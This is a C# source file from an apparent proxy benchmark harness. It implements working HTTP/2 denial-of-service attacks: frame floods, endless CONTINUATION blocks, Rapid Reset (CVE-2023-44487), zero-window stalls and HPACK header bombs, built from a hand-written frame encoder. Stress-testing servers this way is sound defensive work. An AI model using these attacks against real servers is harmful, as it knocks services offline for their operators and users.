using System.Buffers.Binary;
using System.Net.Sockets;
using System.Text;

namespace DrainProxy.Bench.Attacks;

/// <summary>Frames that cost the client nothing, on one connection after the other: a new one for each that is ended.</summary>
internal sealed class FrameFlood(string name, Func<int, byte[]> batch) : Attack(name, $"2 connections, {PerSecond:N0} frames a second each, opened anew when ended")
{
    private const int PerSecond = 20_000;
    private const int Batch = 100;

    public override bool NeedsHttp2 => true;

    public static byte[] Ping(int number) => Many(_ => Frames.Make(6, 0, 0, new byte[8]));

    public static byte[] Settings(int number) => Many(_ => Frames.Make(4, 0, 0, []));

    /// <summary>DATA without content on an open stream.</summary>
    public static byte[] EmptyData(int number) => number == 0 ? Frames.Make(1, 4, 1, Frames.Post) : Many(_ => Frames.Make(0, 0, 1, []));

    /// <summary>One byte of content to a frame of ten.</summary>
    public static byte[] SmallData(int number) => number == 0 ? Frames.Make(1, 4, 1, Frames.Post) : Many(_ => Frames.Make(0, 0, 1, [1]));

    public static byte[] WindowUpdate(int number) => Many(_ => Frames.Make(8, 0, 0, [0, 0, 0, 1]));

    /// <summary>A header block that never ends.</summary>
    public static byte[] EmptyContinuation(int number) => number == 0 ? Frames.Make(1, 0, 1, Frames.Get) : Many(_ => Frames.Make(9, 0, 1, []));

    /// <summary>Streams opened and reset at once (CVE-2023-44487).</summary>
    public static byte[] RapidReset(int number) => Many(i =>
    {
        var stream = (2 * ((number * Batch) + i)) + 1;
        return [.. Frames.Make(1, 5, stream, Frames.Get), .. Frames.Make(3, 0, stream, [0, 0, 0, 8])];
    });

    protected override Task Go(int port, Tally tally, CancellationToken cancel) => Keep(
        port, 2, tally,
        async socket =>
        {
            using var pace = new Pace(PerSecond / Batch);
            var buffer = new byte[16 * 1024];
            tally.Sent(await socket.SendAsync(Frames.Preface, cancel));
            for (var number = 0; IsOpen(socket, buffer);)
            {
                for (var due = await pace.Next(cancel); due > 0; due--) tally.Sent(await socket.SendAsync(batch(number++), cancel));
            }
        },
        cancel);

    private static byte[] Many(Func<int, byte[]> frame) => [.. Enumerable.Range(0, Batch).SelectMany(frame)];
}

/// <summary>Streams whose answers may not be sent: a window of zero.</summary>
internal sealed class ZeroWindows(int count) : Attack("h2-zero-windows", $"{count} connections with 50 GETs of 64 MB each and no window")
{
    private const int Streams = 50;
    private static readonly TimeSpan Look = TimeSpan.FromSeconds(1);

    public override bool NeedsHttp2 => true;

    protected override Task Go(int port, Tally tally, CancellationToken cancel) => Keep(
        port, count, tally,
        async socket =>
        {
            var buffer = new byte[16 * 1024];
            // SETTINGS_INITIAL_WINDOW_SIZE 0.
            byte[] all = [.. Frames.PrefaceWith([0, 4, 0, 0, 0, 0]), .. Enumerable.Range(0, Streams).SelectMany(i => Frames.Make(1, 5, (2 * i) + 1, Frames.GetLarge))];
            tally.Sent(await socket.SendAsync(all, cancel));
            while (IsOpen(socket, buffer)) await Wait(Look, cancel);
        },
        cancel);
}

/// <summary>
/// Header blocks that are small on the wire and large when they are unpacked: a field of 4,000 bytes in the table of HPACK, named 8,000 times by one byte each
/// (RFC 7541 section 7.3).
/// </summary>
internal sealed class HeaderBombs(int count) : Attack("h2-header-bombs", $"{count} connections, 10 times a second a block of 8 KB that stands for 32 MB")
{
    private static readonly TimeSpan Step = TimeSpan.FromMilliseconds(100);
    private static readonly byte[] First = [.. Frames.Get, 0x40, 1, (byte)'x', 127, 0xA1, 0x1E, .. Enumerable.Repeat((byte)'v', 4000)];
    private static readonly byte[] Bomb = [.. Frames.Get, .. Enumerable.Repeat((byte)0xBE, 8000)];

    public override bool NeedsHttp2 => true;

    protected override Task Go(int port, Tally tally, CancellationToken cancel) => Keep(
        port, count, tally,
        async socket =>
        {
            var buffer = new byte[16 * 1024];
            tally.Sent(await socket.SendAsync(Frames.Preface, cancel));
            tally.Sent(await socket.SendAsync(Frames.Make(1, 5, 1, First), cancel));
            for (var stream = 3; IsOpen(socket, buffer); stream += 2)
            {
                tally.Sent(await socket.SendAsync(Frames.Make(1, 5, stream, Bomb), cancel));
                await Wait(Step, cancel);
            }
        },
        cancel);
}

/// <summary>Just enough of RFC 9113 to be a nuisance.</summary>
internal static class Frames
{
    public static readonly byte[] Preface = PrefaceWith([]);
    public static readonly byte[] Get = Block("GET", "/");
    public static readonly byte[] Post = Block("POST", "/");
    public static readonly byte[] GetLarge = Block("GET", Load.HttpExchange.LargePath);

    /// <summary>The connection preface with these settings.</summary>
    public static byte[] PrefaceWith(byte[] settings) => [.. "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8, .. Make(4, 0, 0, settings)];

    public static byte[] Make(byte type, byte flags, int stream, byte[] payload)
    {
        var frame = new byte[9 + payload.Length];
        BinaryPrimitives.WriteInt32BigEndian(frame, payload.Length << 8);
        (frame[3], frame[4]) = (type, flags);
        BinaryPrimitives.WriteInt32BigEndian(frame.AsSpan(5), stream);
        payload.CopyTo(frame, 9);
        return frame;
    }

    /// <summary>Literals that are not indexed (RFC 7541 section 6.2.2): no state to keep.</summary>
    private static byte[] Block(string method, string path) =>
        [.. Field(":method", method), .. Field(":scheme", "http"), .. Field(":authority", "bench"), .. Field(":path", path)];

    private static byte[] Field(string name, string value) =>
        [0, (byte)name.Length, .. Encoding.ASCII.GetBytes(name), (byte)value.Length, .. Encoding.ASCII.GetBytes(value)];
}
